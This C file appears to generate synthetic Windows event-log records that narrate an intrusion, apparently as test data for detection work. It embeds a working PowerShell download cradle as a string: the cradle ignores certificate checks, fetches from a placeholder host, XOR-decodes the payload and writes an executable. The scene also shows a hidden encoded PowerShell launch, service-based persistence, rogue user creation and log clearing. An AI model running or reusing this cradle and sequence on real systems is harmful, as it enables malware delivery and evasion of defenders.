/* intruder.c - the night of the break-in: the few records that are worth finding in a story. */
#include "samples/story.h"

#define FROM "203.0.113.66"
#define TO   "198.51.100.23"

static const char download[] =
    "$ErrorActionPreference = 'SilentlyContinue'\r\n"
    "$u = \"https://" TO "/a/b?c=1&d='2'\"\r\n"
    "[Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }\r\n"
    "$b = (New-Object Net.WebClient).DownloadData($u)\r\n"
    "for ($i = 0; $i -lt $b.Length; $i++) { $b[$i] = $b[$i] -bxor 0x5A }\r\n"
    "[IO.File]::WriteAllBytes(\"$env:ProgramData\\updsvc.exe\", $b)\t# \xe2\x98\xa0\r\n";

static const struct program shell = {
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "powershell.exe -nop -w hidden -enc "
    "JAB1AD0AJwBlAHgAYQBtAHAAbABlACcAOwBpAGUAeAAoACQAdQApAA==",
    "Shell", "Example Corporation"};
static const struct program service = {"C:\\ProgramData\\updsvc.exe",
                                       "C:\\ProgramData\\updsvc.exe -k \"\" /s", "", "-"};

static void create_user(struct teller *teller, const struct person *by)
{
    TELL(teller, USER_CREATED, NULL, sample_text("helpdesk2"), sample_text("EXAMPLE"),
         sample_sid("S-1-5-21-3141592653-2718281828-1414213562-1337"), sample_sid(by->sid),
         sample_text(by->name), sample_text("EXAMPLE"), sample_int(0x15, 0x2a7f31),
         sample_text("-"), sample_text("helpdesk2"), sample_text("<value not set>"),
         sample_text("-"), sample_text("-"), sample_text("-"), sample_text("-"), sample_text("-"),
         sample_text("-"), sample_text("%%1794"), sample_text("%%1794"), sample_text("513"),
         sample_text("-"), sample_text("0x0"), sample_text("0x15"),
         sample_text("\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084"), sample_text("%%1793"),
         sample_text("-"), sample_text("%%1797"));
}

static void clear_log(struct teller *teller, const struct person *by)
{
    TELL(teller, LOG_CLEARED, NULL, sample_sid(by->sid), sample_text(by->name),
         sample_text("EXAMPLE"), sample_int(0x15, 0x2a7f31));
}

void scene_intruder(struct teller *teller)
{
    const struct person *victim = &people[6];

    teller->host = &hosts[3];
    for (int i = 0; i < 12; i++) {
        scene_failed_logon(teller, &people[i % PEOPLE], FROM);
        teller_wait(teller, SECOND / 4);
    }
    scene_process(teller, &shell, victim);
    scene_sysmon_process(teller, &shell, victim);
    scene_script(teller, victim, download, 1, 1);
    teller_wait(teller, SECOND);
    scene_sysmon_network(teller, &shell, victim, TO, 443);
    scene_sysmon_file(teller, &shell, "C:\\ProgramData\\updsvc.exe");
    scene_service_new(teller, "WinUpdSvc", "C:\\ProgramData\\updsvc.exe -k \"\" /s");
    teller_wait(teller, SECOND);
    scene_sysmon_process(teller, &service, victim);
    scene_sysmon_network(teller, &service, victim, TO, 8443);
    teller_wait(teller, 40 * SECOND);
    create_user(teller, victim);
    teller_wait(teller, 5 * SECOND);
    clear_log(teller, victim);
}
